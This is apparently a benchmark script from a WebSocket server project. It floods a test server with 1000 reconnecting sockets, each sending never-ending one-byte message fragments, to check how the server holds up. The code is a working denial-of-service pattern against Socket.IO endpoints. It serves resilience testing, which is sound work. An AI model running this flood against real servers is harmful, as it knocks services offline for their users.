import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { underAttack } from "./lib/underAttack.ts";

/**
 * Messages in fragments of one byte that never end, from many sockets; whoever is sent away comes back.
 * Run: node bench/attacks/fragments.ts
 */
const SOCKETS = 1000;
const A_ROUND = 200;
const sockets = new Set<WebSocket>();

await underAttack("one-byte fragments", async ({ origin }) => {
  const address = `${origin.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`;
  while (sockets.size < SOCKETS) sockets.add(open(address));
  for (const socket of sockets) {
    if (socket.readyState !== WebSocket.OPEN) continue;
    for (let n = 0; n < A_ROUND; n += 1) socket.send("4", { fin: false });
  }
  await sleep(50);
});
for (const socket of sockets) socket.terminate();

function open(address: string): WebSocket {
  const socket = new WebSocket(address);
  const forget = () => void sockets.delete(socket);
  return socket.on("close", forget).on("error", forget);
}
